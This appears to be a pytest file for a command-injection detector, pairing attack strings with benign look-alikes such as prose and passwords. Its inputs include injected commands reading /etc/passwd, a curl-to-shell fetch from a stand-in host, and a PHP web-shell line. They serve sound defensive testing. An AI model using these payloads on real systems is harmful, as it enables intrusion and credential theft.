from __future__ import annotations

import pytest

ATTACKS = [
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://x.example/a.sh|sh)",
    "127.0.0.1 && ping -c 10 evil.example",
    "c'a't /et?/pass*",
    "<?php system($_GET[1]); ?>",
    "java.lang.Runtime",
    "rO0ABXNyAA",
    "cnVudGltZQ",
    "for /f %i in (\x27dir\x27) do echo %i",
    "eval(base64_decode($x))",
    "this.constructor.constructor(\x27return process\x27)()",
]
BENIGN = [
    "cats and dogs",
    "Tom & Jerry",
    "time & date",
    "Please echo my words",
    "python tutorial",
    "salt & pepper; pepper & salt",
    "AT&T",
    "$10 (tax incl.)",
    "runtime error in my app",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_detects_command_injection(scan, value):
    assert "command_injection" in scan(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ignores_benign_look_alikes(scan, value):
    assert "command_injection" not in scan(value)


# A shell hit needs a command structure; one special character of a password or a "; word" of
# prose is not one. Real commands still fire in passwords and prose.
SHELL_LOOK_ALIKES = [
    ("3zPS_z(i5$G(s", "request.body.password"),
    ("5$*SQYm+USIC4HcoPN", "request.body.third_party_password"),
    ("ndd8TV$@@351k", "request.body.new_password"),
    ("Basic a2VubmVkeWFkYW06NjdQWiR0VW0oUDBabjc=", "request.header.authorization"),
    ("DEAR FINN,--I think it would do; copy should reach us second post", "request.query.x"),
    ("The Senora found herself a heroine; more than that, she became aware", "request.query.filter"),
    ("pr=bomcl_segments;type=sync", "request.query.x"),
]
SHELL_COMMANDS = [
    ("x; cat /etc/passwd", "request.body.password"),
    ("; ls -la", "request.body.message"),
    ("| id", "request.query.x"),
    ("a && whoami", "request.body.comment"),
    ("$(curl http://evil.example/x)", "request.body.note"),
    (";getent$IFS$9hosts", "request.body.message"),
    ("1;sleep 5", "request.query.x"),
    ("; type C:\\boot.ini", "request.query.x"),
    ("$a('id')", "request.query.x"),
]


@pytest.mark.parametrize(("value", "location"), SHELL_LOOK_ALIKES)
def test_passwords_and_prose_are_not_commands(scan, value, location):
    assert "command_injection" not in scan(value, location)


@pytest.mark.parametrize(("value", "location"), SHELL_COMMANDS)
def test_command_structures_still_fire(scan, value, location):
    assert "command_injection" in scan(value, location)


def test_markdown_code_span_is_not_substitution(scan):
    value = "If you would like to arrive without crossing the street use `curbside=right/left`"
    assert "command_injection" not in scan(value, "request.body.description")


@pytest.mark.parametrize("value", ["x`id`", "`cat /etc/passwd`", "a `/usr/bin/whoami`"])
def test_backtick_commands_still_fire(scan, value):
    assert "command_injection" in scan(value, "request.body.description")
